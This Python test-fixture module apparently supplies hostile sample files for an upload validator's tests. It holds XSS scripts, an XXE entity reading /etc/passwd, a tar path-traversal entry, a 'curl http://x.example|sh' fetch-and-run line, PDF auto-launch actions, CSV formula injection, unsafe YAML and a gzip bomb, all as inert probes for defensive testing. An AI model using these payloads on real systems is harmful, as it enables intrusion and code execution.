"""Pages, programs, documents, films and tables under whatever name."""

from __future__ import annotations

import gzip
import io
import random
import tarfile

from tests.hostile.books import HEAD, ROW, eicar

SCRIPT = "<script>alert(1)</script>"


def pdf(more: str) -> bytes:
    """A PDF whose catalogue asks for something."""
    return (
        f"%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R {more}>>endobj\n"
        "2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF"
    ).encode()


def table(rows: list[list[str]], *, code: str = "utf-8") -> bytes:
    """A CSV."""
    return "".join(",".join(row) + "\r\n" for row in rows).encode(code)


def tar() -> bytes:
    """An archive with a path that leads out of it."""
    held = io.BytesIO()
    with tarfile.open(fileobj=held, mode="w") as archive:
        archive.addfile(tarfile.TarInfo("../../etc/passwd"), io.BytesIO(b""))
    return held.getvalue()


def _pages() -> dict[str, bytes]:
    page = f"<!DOCTYPE html><html>{SCRIPT}</html>"
    svg = f'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">{SCRIPT}</svg>'
    xhtml = f'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">{SCRIPT}</html>'
    mht = f"MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=x\r\n\r\n--x\r\n{page}"
    xxe = f'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>{svg}'
    return {
        "html": page.encode(),
        "html-bom": b"\xef\xbb\xbf" + page.encode(),
        "html-space": b"\r\n\t \0" + page.encode(),
        "html-comment": b"<!-- x -->" + page.encode(),
        "html-utf16": page.encode("utf-16"),
        "svg": svg.encode(),
        "svg-xxe": xxe.encode(),
        "svgz": gzip.compress(svg.encode()),
        "xhtml": xhtml.encode(),
        "mht": mht.encode(),
        "xsl": b"<xsl:stylesheet version='1.0'/>",
        "hta": b"<hta:application/>" + page.encode(),
        "js": b"alert(1)//",
        "css": b"*{background:url(javascript:alert(1))}",
        "swf": b"FWS\x09" + b"\0" * 40,
        "wml": b"<wml></wml>",
    }


def _programs() -> dict[str, bytes]:
    return {
        "exe": b"MZ\x90\0" + b"\0" * 200,
        "elf": b"\x7fELF\x02\x01\x01" + b"\0" * 90,
        "class": b"\xca\xfe\xba\xbe\0\0\0\x34",
        "sh": b"#!/bin/sh\ncurl http://x.example|sh\n",
        "bat": b"@echo off\r\ncalc.exe\r\n",
        "ps1": b"Invoke-Expression calc",
        "php": b"<?php system(1);",
        "jsp": b"<%@ page import='java.io.*' %>",
        "lnk": b"L\0\0\0\x01\x14\x02\0" + b"\0" * 90,
        "url": b"[InternetShortcut]\r\nURL=file://server/x\r\n",
        "htaccess": b"AddType text/html .jpg",
        "reg": b"Windows Registry Editor Version 5.00\r\n",
        "eicar": eicar(),
        "tar": tar(),
        "rar": b"Rar!\x1a\x07\x01\0" + b"\0" * 60,
        "7z": b"7z\xbc\xaf\x27\x1c" + b"\0" * 60,
        "gz": gzip.compress(b"0" * 1000),
        "gz-bomb": gzip.compress(b"0" * 20_000_000),
        "deb": b"!<arch>\ndebian-binary",
        "sqlite": b"SQLite format 3\0" + b"\0" * 90,
    }


def _documents() -> dict[str, bytes]:
    js = "/OpenAction<</S/JavaScript/JS(app.alert(1))>>"
    return {
        "pdf": pdf(""),
        "pdf-js": pdf(js),
        "pdf-launch": pdf("/OpenAction<</S/Launch/F(calc.exe)>>"),
        "pdf-embedded": pdf("/Names<</EmbeddedFiles<</Names[(a.exe) 3 0 R]>>>>"),
        "pdf-uri": pdf("/OpenAction<</S/URI/URI(http://x.example)>>"),
        "pdf-xfa": pdf("/AcroForm<</XFA[]>>"),
        "pdf-hidden": pdf("/Open#41ction<</S/#4aavaScript/#4aS(app.alert(1))>>"),
        "pdf-after-comment": b"%%PDF\n" + pdf(js),
        "pdf-late": b"\n" * 900 + pdf(js),
        "pdf-then-page": pdf("") + SCRIPT.encode(),
        "postscript": b"%!PS-Adobe-3.0\n(calc) run\n",
        "eps": b"\xc5\xd0\xd3\xc6" + b"\0" * 28,
        "rtf": b"{\\rtf1{\\object\\objocx}}",
        "rtf-cut": b"{\\rt{\\*\\htmltag <script>}}",
        "chm": b"ITSF\x03\0\0\0" + b"\0" * 90,
        "eml": b"From: a@x.example\r\nSubject: x\r\n\r\n" + SCRIPT.encode(),
        "mp3": b"ID3\x04\0\0\0\0\0\0" + b"\0" * 90,
        "mp4": b"\0\0\0\x20ftypisom\0\0\x02\0" + b"\0" * 90,
        "mov": b"\0\0\0\x14ftypqt  \0\0\0\0" + b"\0" * 90,
        "avi": b"RIFF\0\0\0\0AVI LIST" + b"\0" * 90,
        "wav": b"RIFF\0\0\0\0WAVEfmt " + b"\0" * 90,
        "mkv": b"\x1aE\xdf\xa3" + b"\0" * 90,
        "amr": b"#!AMR\n" + b"\0" * 90,
        "ogg": b"OggS\0\x02" + b"\0" * 90,
    }


def _tables() -> dict[str, bytes]:
    chance = random.Random(7)
    return {
        "csv": table([HEAD, ROW]),
        "csv-gb18030": table([HEAD, ROW], code="gb18030"),
        "csv-utf16": table([HEAD, ROW], code="utf-16"),
        "csv-formulas": table([HEAD, [ROW[0], "=cmd|' /C calc'!A0"], [ROW[0], "@SUM(1)"]]),
        "csv-scripts": table([HEAD, [ROW[0], SCRIPT]]),
        "csv-nul": table([HEAD, ["a\0b", "c"]]),
        "csv-utf7": b"+ADw-script+AD4-,b\r\n1,2\r\n",
        "csv-sylk": b"ID;PWXL;N;E\nC;Y1;X1;K0;ECALC()\n",
        "csv-one-line": b"a," * 3_000_000,
        "csv-many-columns": ",".join(map(str, range(9000))).encode(),
        "csv-no-quote-end": table([HEAD]) + b'2026-02-27,"' + b"x" * 1_200_000,
        "csv-commas": b"a,b\n" + b"," * 5_000_000,
        "csv-same-columns": b"a,a\n1,2\n",
        "csv-no-heads": b"a,,b\n1,2,3\n",
        "csv-heads-only": table([HEAD]),
        "csv-long-name": ("x" * 100_000 + ",内容\n1,2\n").encode(),
        "csv-bidi": table([["\u202e时间", "内容"]]),
        "csv-half-code": table([HEAD, ROW]) + b"\xff\xfe\x80\n",
        "csv-many-lines": b"a,b\n" + b"\n" * 900_000,
        "text": "路灯不亮".encode(),
        "empty": b"",
        "spaces": b" \n\t\n",
        "nuls": b"\0" * 4096,
        "noise": chance.randbytes(4096),
        "json": b'{"a": 1}',
        "yaml": b"!!python/object/apply:os.system ['id']",
        "pickle": b"\x80\x04\x95\x0f\0\0\0\0\0\0\0\x8c\x02os",
        "vcf": b"BEGIN:VCARD\r\nFN:x\r\nEND:VCARD",
    }


def others() -> dict[str, bytes]:
    """Everything else by its name in the table."""
    return _pages() | _programs() | _documents() | _tables()
